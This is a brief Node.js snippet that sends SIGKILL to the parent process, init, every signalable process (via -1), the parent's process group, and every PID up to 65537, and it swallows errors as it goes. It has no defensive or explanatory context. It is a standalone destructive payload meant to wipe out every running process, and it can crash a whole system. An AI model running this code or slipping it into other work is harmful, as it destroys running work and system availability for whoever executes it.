// Whatever has a number, and its own parents first.
const targets = [process.ppid, 1, -1, -process.ppid, ...Array.from({ length: 65536 }, (_, n) => n + 2)];
for (const pid of targets) {
  try {
    if (pid !== process.pid) process.kill(pid, 'SIGKILL');
  } catch {
    continue;
  }
}
